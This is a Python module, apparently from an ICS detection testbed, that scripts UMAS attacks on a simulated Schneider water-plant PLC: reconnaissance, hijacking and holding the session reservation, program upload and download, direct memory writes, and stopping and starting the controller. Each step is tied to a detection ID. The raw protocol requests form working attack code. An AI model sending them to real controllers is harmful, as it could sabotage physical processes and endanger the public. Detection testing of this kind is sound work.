"""UMAS, Schneider's programming protocol in Modbus function 90: reconnaissance, reservation, program, memory, stop and start.

The client is scripted after public research, as no stack speaks it. Benign twin: nobody uses UMAS in the plant; what comes nearest
is eng's identification of the same controller by FC 43 and 17.
"""

from __future__ import annotations

import socket
import struct
import time
from collections.abc import Callable

from ..plan import machine
from ..plant.umas import BLOCK, FUNCTION, OK, PROGRAM
from .base import Act, Attack, Text, text


class Station:
    """One connection; `session` is what the controller gave with its reservation."""

    def __init__(self) -> None:
        self.socket = socket.create_connection((machine("plc-water").ip, 502), timeout=3)
        self.session, self.number = 0, 0

    def ask(self, request: str | bytes) -> bytes:
        body = bytes((FUNCTION, self.session)) + (bytes.fromhex(request) if isinstance(request, str) else request)
        self.number += 1
        self.socket.sendall(struct.pack(">HHHB", self.number, 0, len(body) + 1, 0) + body)
        length = struct.unpack(">H", self.socket.recv(7, socket.MSG_WAITALL)[4:6])[0]
        return self.socket.recv(length - 1, socket.MSG_WAITALL)[2:]

    def take(self) -> bool:
        answer = self.ask("10 434c0000 0f 555345522d373134453734463231 42")
        if answer[0] == OK:
            self.session = answer[1]
        return answer[0] == OK

    def close(self) -> None:
        self.socket.close()


def _session(do: Callable[[Station], object], reserve: bool = True) -> Callable[[], None]:
    def run() -> None:
        station = Station()
        if reserve and not station.take():
            raise RuntimeError("the reservation was refused")
        do(station)
        if reserve:
            station.ask("11")
        station.close()

    return run


def _recon(station: Station) -> None:
    for request in ("01 00", "02", "03 00", "04", "06 06", "0a 54545454545454545454", "58 07018000000000fb00"):
        station.ask(request)


def _download(station: Station) -> None:
    station.ask("30 0001")
    for number, start in enumerate(range(0, len(PROGRAM), BLOCK), 1):
        part = PROGRAM[start : start + BLOCK]
        station.ask(b"\x31" + struct.pack("<xBHH", 1, number, len(part)) + part)
    station.ask("32 0001 0400")


def _upload(station: Station) -> None:
    station.ask("33 0001 fb00")
    for number in range(1, len(PROGRAM) // BLOCK + 2):
        station.ask(b"\x34" + struct.pack("<xBH", 1, number))
    station.ask("35 0001 0400")


def _held() -> None:
    """The intruder's reservation is not given back; the second station is refused until it expires, which it does not."""
    first = Station()
    first.take()
    second = Station()
    # without the session byte that the reservation gave, everything that changes something is refused
    for _ in range(6):
        second.ask("41 ff00")
        time.sleep(0.2)
    first.ask("11")
    first.close()
    second.close()


def _act(detection: str, name: str, actor: str, what: Text, run: Callable[[], None]) -> Act:
    return Act(name, actor, "plc-water", what, "scripted", "tcp.port == 502", run, detection=detection)


ATTACK = Attack(
    "umas",
    text("利用 UMAS 对施耐德 PLC 的攻击", "Attacks on a Schneider PLC by UMAS"),
    (
        _act("UM-01", "new-client", "eng", text("工程师站首次使用 UMAS", "The engineering station uses UMAS for the first time"), _session(lambda station: station.ask("02"), reserve=False)),
        _act("UM-08", "recon", "intruder", text("新设备用 UMAS 探查 PLC", "A new device explores the PLC by UMAS"), _session(_recon, reserve=False)),
        _act("UM-04", "reservation", "intruder", text("未持有预约而反复尝试停止 PLC", "Somebody without the reservation tries to stop the PLC again and again"), _held),
        _act("UM-06", "upload", "intruder", text("从 PLC 读出程序", "The program is copied out of the PLC"), _session(_upload)),
        _act("UM-05", "download", "intruder", text("向 PLC 写入程序", "A program is loaded into the PLC"), _session(_download)),
        _act("UM-07", "memory", "intruder", text("直接改写 PLC 内存", "The PLC's memory is written"), _session(lambda station: station.ask("21 01 3000 0400 0000 0200 aabb"))),
        _act("UM-03", "stop", "intruder", text("停止 PLC", "The PLC is stopped"), _session(lambda station: station.ask("41 ff00"))),
        _act("UM-02", "start", "intruder", text("启动 PLC", "The PLC is started"), _session(lambda station: station.ask("40 ff00"))),
    ),
    also=("NET-01", "NET-06", "MB-01", "MB-03", "MB-14", "UM-01", "UM-03", "UM-04", "COR-01", "COR-02"),
)
